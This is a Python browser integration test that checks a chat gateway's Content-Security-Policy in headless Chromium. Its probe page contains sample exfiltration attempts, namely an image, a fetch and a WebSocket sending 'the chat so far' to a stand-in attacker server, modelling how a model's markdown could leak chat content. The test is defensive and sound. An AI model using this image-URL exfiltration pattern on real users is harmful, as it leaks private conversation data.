"""The page's Content-Security-Policy as Chromium applies it (issue 36, "data out through images").

A real `python -m adk_gateway` serves a probe page (`--web-dir`) with the headers it gives the chat
page; tests/integration/csp_probe.mjs loads it in Debian's headless Chromium. The page holds what
a model's markdown could make it fetch (an image on another server, with chat content in its URL),
what the bundled page needs (its own script, a `data:` image, the gateway's WebSocket, a fetch of
its API) and Google's search suggestions as the bundled page shows them: their HTML, with its
inline `<style>`, in a sandboxed `<iframe srcdoc>`, which inherits the page's policy. The other
server must never see a request; the suggestions must keep their styles.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

from tests.browser.page_driver import CHROMIUM, setup_problem
from tests.gateway_process import running_gateway
from tests.local_http import LocalHTTPServer
from tests.node_script import run_node_script

pytestmark = pytest.mark.browser

HERE = Path(__file__).resolve().parent

# Google's suggestions as the bundled page wraps them (web/src/components/Sources.jsx).
SUGGESTIONS = (
    '<!doctype html><html><head><meta charset="utf-8"><base target="_blank">'
    "<style>body{background:rgb(1, 2, 3)} .chip{color:rgb(4, 5, 6)}</style></head>"
    '<body style="margin:0"><a class="chip" href="https://www.google.com/search?q=adk">adk gateway</a></body></html>'
)


class Spy(LocalHTTPServer):
    """Another server, as an attacker's: counts every request it gets."""

    def __init__(self) -> None:
        super().__init__(_SpyHandler)
        self.paths: list[str] = []
        self.url = self.origin


class _SpyHandler(BaseHTTPRequestHandler):
    server: Spy

    def do_GET(self) -> None:
        self.server.paths.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


def probe_page(web_dir: Path, spy: str) -> None:
    (web_dir / "assets").mkdir(parents=True)
    srcdoc = SUGGESTIONS.replace("&", "&amp;").replace("'", "&#39;")
    (web_dir / "index.html").write_text(f"""<!doctype html>
<html><head><meta charset="utf-8"><title>CSP probe</title></head>
<body>
<img id="outside" src="{spy}/leak.gif?secret=the-chat-so-far">
<img id="inline" src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==">
<iframe id="suggestions" sandbox="allow-popups allow-popups-to-escape-sandbox" referrerpolicy="no-referrer"
        srcdoc='{srcdoc}'></iframe>
<script>window.inlineScriptRan = true;</script>
<script type="module" src="/static/assets/probe.js"></script>
</body></html>
""")
    (web_dir / "assets" / "probe.js").write_text(f"""
const probe = (window.probe = {{ violations: [] }});
document.addEventListener('securitypolicyviolation', e => probe.violations.push(e.effectiveDirective));
probe.inlineScriptRan = window.inlineScriptRan === true;
probe.dataImageShown = document.getElementById('inline').naturalWidth === 1
  || await new Promise(done => document.getElementById('inline').addEventListener('load', () => done(true)));
probe.me = await fetch('/api/me').then(r => r.status, e => String(e));
probe.foreignFetch = await fetch('{spy}/fetch?secret=the-chat-so-far').then(r => r.status, e => 'blocked');
probe.socket = await new Promise(done => {{
  const url = new URL('/api/chat/ws', location.href);
  url.protocol = 'ws:';
  const ws = new WebSocket(url);
  ws.onopen = () => {{ ws.close(); done('open'); }};
  ws.onerror = () => done('error');
}});
probe.foreignSocket = await new Promise(done => {{
  try {{
    const ws = new WebSocket('{spy.replace("http", "ws")}/socket');
    ws.onopen = () => done('open');
    ws.onerror = () => done('error');
  }} catch (error) {{ done('blocked'); }}
}});
probe.done = true;
""")


@pytest.fixture
def spy() -> Iterator[Spy]:
    with Spy() as server:
        yield server


def test_the_page_policy_in_chromium(tmp_path: Path, spy: Spy) -> None:
    problem = setup_problem()
    if problem is not None:
        pytest.skip(problem)
    web_dir = tmp_path / "dist"
    probe_page(web_dir, spy.url)
    with running_gateway("--web-dir", str(web_dir), log=tmp_path / "gateway.log") as url:
        result, proc = run_node_script(HERE / "csp_probe.mjs", json.dumps({"url": f"{url}/",
                                                                          "executablePath": CHROMIUM}),
                                       env={**os.environ, "TMPDIR": str(tmp_path)}, timeout=120)
    report = json.dumps(result, indent=1)
    assert result.get("ok"), f"{report}\n{proc.stderr[-3000:]}"
    page: dict[str, Any] = result["page"]
    # Nothing reached the other server: not the markdown image, not a fetch, not a socket.
    assert spy.paths == [], report
    assert page["foreignFetch"] == "blocked" and page["foreignSocket"] in ("blocked", "error"), report
    # What the chat page needs still works: its own scripts, data: images, its API and its socket.
    assert page["dataImageShown"] is True and page["me"] == 200 and page["socket"] == "open", report
    # Inline scripts do not run (a script injected into the page would not either).
    assert page["inlineScriptRan"] is False, report
    # Google's suggestions keep their inline <style> and style attribute inside the srcdoc frame.
    assert result["suggestions"] == {"background": "rgb(1, 2, 3)", "chip": "rgb(4, 5, 6)", "margin": "0px"}, report
    assert any("img-src" in line and "leak.gif" in line for line in result["console"]), report
